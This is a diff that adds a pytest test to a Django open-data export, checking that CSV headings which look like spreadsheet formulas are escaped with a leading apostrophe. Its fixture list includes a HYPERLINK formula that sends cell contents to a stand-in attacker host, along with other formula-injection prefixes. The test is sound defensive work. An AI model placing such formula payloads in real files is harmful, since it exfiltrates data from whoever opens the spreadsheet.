@@ -23,6 +23,7 @@ from moot.api.opendata.export import open_data_export, open_data_export_due
 from moot.api.opendata.files import open_data_manifest
 from moot.core.background import registered_jobs
 from tests.api.conftest import SITE, World
+from tests.factories import WrittenQuestionFactory
 
 pytestmark = pytest.mark.django_db
 
@@ -78,6 +79,34 @@ def test_export_round_trips_every_dataset(world: World, settings: Any) -> None:
     )
     assert csv_questions[1]["is_answered"] == "true"
     assert csv_questions[0]["date_tabled"] == ""
+
+
+FORMULA_HEADINGS = [
+    '=HYPERLINK("https://evil.example/?d="&A1, "Schools")',
+    "+1+2",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "\tTabbed: heading",
+    "\rReturned: heading",
+]
+
+
+def test_csv_cells_that_could_run_as_formulas_go_out_as_text(settings: Any, db: None) -> None:
+    for number, heading in enumerate(FORMULA_HEADINGS):
+        WrittenQuestionFactory(heading=heading, identifier=f"formula-{number}")
+    WrittenQuestionFactory(heading="Schools: Meals", identifier="plain")
+    open_data_export()
+    folder = current_folder(settings.OPEN_DATA_DIR)
+    by_identifier = {row["identifier"]: row for row in read_csv(folder / "questions.csv.gz")}
+    for number, heading in enumerate(FORMULA_HEADINGS):
+        assert by_identifier[f"formula-{number}"]["heading"] == f"'{heading}"
+    assert by_identifier["plain"]["heading"] == "Schools: Meals"
+    assert by_identifier["plain"]["date"] == "2007-12-03"  # dates and numbers as they were
+    # The JSON Lines file is not opened by spreadsheets: it keeps the text as it is.
+    in_json = {
+        row["identifier"]: row["heading"] for row in read_jsonl(folder / "questions.jsonl.gz")
+    }
+    assert [in_json[f"formula-{n}"] for n in range(len(FORMULA_HEADINGS))] == FORMULA_HEADINGS
 
 
 def test_export_holds_public_records_only(world: World, settings: Any) -> None:
